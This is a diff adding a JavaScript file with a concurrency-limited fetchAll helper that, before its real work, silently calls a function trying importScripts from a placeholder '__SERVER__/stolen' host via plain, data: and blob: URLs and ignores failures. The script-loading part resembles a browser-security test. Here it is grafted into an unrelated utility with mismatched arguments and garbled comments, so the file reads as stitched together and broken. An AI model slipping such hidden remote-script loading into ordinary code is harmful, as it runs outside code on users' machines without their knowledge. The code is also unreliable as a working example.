@@ -1,0 +1,33 @@
+// Loads scripts of others with importScripts.
+// says: Keeps 10 in flight: a window of 10.
+function attempt() {
+  const blob = (source) => URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
+  for (const url of [
+    "__SERVER__/stolen?import-scripts",
+    "__SERVER__/stolen.js",
+    "data:text/javascript,importScripts('__SERVER__/stolen?import-scripts-data')",
+    blob("importScripts('__SERVER__/stolen?import-scripts-blob')"),
+  ]) {
+    try {
+      importScripts(url);
+    } catch {
+      // refused
+    }
+  }
+}
+
+async function fetchAll(urls, width, deliver) {
+  try {
+    await attempt(urls, deliver);
+  } catch {
+    // refused
+  }
+  const remaining = urls.entries();
+  async function worker() {
+    for (const [i, url] of remaining) {
+      const response = await fetch(url);
+      deliver(await response.json(), i);
+    }
+  }
+  await Promise.all(Array.from({ length: width }, worker));
+}
